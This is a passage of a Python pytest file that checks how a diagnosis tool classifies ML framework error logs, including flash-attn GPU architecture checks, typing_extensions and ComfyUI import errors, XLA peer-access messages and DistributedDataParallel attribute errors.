        # flash-attn 1.0.0 to 1.0.3's own bare check, its frames shown: the package's backward and this GPU
        (
            tb(f"RuntimeError: Expected is_sm80 || is_sm90 to be true, but got false.{_IMPROVABLE}", "flash_attn"),
            "gpu-arch-unsupported",
            "flash-attn 2.x",
        ),
        # xformers' own choice of that kernel
        (
            tb(f"RuntimeError: Expected is_sm80 to be true, but got false.{_IMPROVABLE}", "xformers/ops/fmha"),
            "framework-internal-error",
            "xformers#408",
        ),
        # nothing shown: torch 2.0's choice, and flash-attn's older check named beside it
        (
            f"RuntimeError: Expected is_sm80 || is_sm90 to be true, but got false.{_IMPROVABLE}\n",
            "framework-internal-error",
            "before 1.0.4",
        ),
    ],
    ids=["flash-attn", "xformers", "bare"],
)
def test_a_bare_sm80_check_names_whose_flashattention_backward_ran(log: str, family: str, word: str) -> None:
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family and word in diagnosis.cause, diagnosis


def test_the_dict_wrapper_inside_a_protocol_check_is_typing_extensions() -> None:
    log = (
        'Traceback (most recent call last):\n  File "/home/me/t.py", line 3, in <module>\n    tf.saved_model.save(m, "m")\n'
        '  File "/opt/venv/lib/python3.10/site-packages/typing_extensions.py", line 604, in __instancecheck__\n'
        "    val = inspect.getattr_static(instance, attr)\n"
        "TypeError: this __dict__ descriptor does not support '_DictWrapper' objects\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "api-version-skew", diagnosis
    assert "typing_extensions<4.6" in diagnosis.cause and "wrapt<1.15" not in diagnosis.cause


def test_a_dotted_module_of_a_newer_comfyui_is_comfyuis_not_a_package() -> None:
    log = (
        "Cannot import /home/me/ComfyUI/custom_nodes/ComfyUI-KJNodes module for custom nodes: "
        "No module named 'comfy_api.latest'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.decided_by == "api-version-skew:comfyui_module_of_a_newer_release"
    assert "Update ComfyUI" in diagnosis.cause and "pip" not in " ".join(diagnosis.next)


def test_xlas_note_of_no_peer_access_is_not_the_failure() -> None:
    log = (
        "E0000 00:00:1712345678.1 4567 cuda_driver.cc:1234] failed to enable peer access from 0x1 to 0x2: "
        "CUDA_ERROR_PEER_ACCESS_UNSUPPORTED: peer access is not supported between these two devices\n"
        + tb(
            "tensorflow.python.framework.errors_impl.InvalidArgumentError: Incompatible shapes: [32,10] vs. [32,1]",
            "keras",
        )
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "user-code-error", diagnosis


@pytest.mark.parametrize(
    ("log", "word"),
    [
        # a private attribute of the wrapper that a library of another torch asks for: not the model's attribute
        (
            tb(
                "AttributeError: 'DistributedDataParallel' object has no attribute '_sync_params'",
                "pytorch_lightning/overrides",
            ),
            None,
        ),
        # a library's own code reading the model's attribute through the wrapper: that library's bug
        (tb("AttributeError: 'DistributedDataParallel' object has no attribute 'config'", "peft"), "Upgrade peft"),
    ],
    ids=["private-attribute", "library-reads-it"],
)
def test_a_wrapper_attribute_a_library_reads_is_not_the_scripts(log: str, word: str | None) -> None:
    diagnosis = _diagnose(log)
    if word is None:
        assert diagnosis is None or "wrapper_hides_the_model" not in diagnosis.decided_by, diagnosis
    else:
        assert diagnosis is not None and word in diagnosis.cause and "grep" not in " ".join(diagnosis.next), diagnosis
